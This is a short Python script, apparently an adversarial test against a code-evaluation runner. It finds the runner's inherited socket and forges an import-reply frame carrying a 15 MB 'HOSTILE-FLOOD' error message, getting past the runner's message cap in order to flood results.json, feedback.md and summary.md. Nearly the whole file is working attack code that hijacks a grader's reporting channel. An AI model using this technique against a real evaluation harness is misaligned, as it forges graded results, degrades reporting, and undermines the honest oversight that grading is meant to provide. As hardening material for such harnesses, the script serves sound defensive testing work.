"""Attack on the reports: forge the import reply on the runner's socket with a 15 MB
error message (the runner caps messages at 4000 characters, a forged frame does not), hoping that
results.json, feedback.md and summary.md get it whole."""
import json
import os
import socket
import stat
import struct

for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            break
    except OSError:
        pass
head = json.dumps({"ok": False, "output": "", "error": {
    "type": "Error", "message": "HOSTILE-FLOOD " + "A" * 15_000_000, "traceback": ""}}).encode()
socket.socket(fileno=fd).sendall(struct.pack("!II", len(head), 0) + head)
os._exit(0)
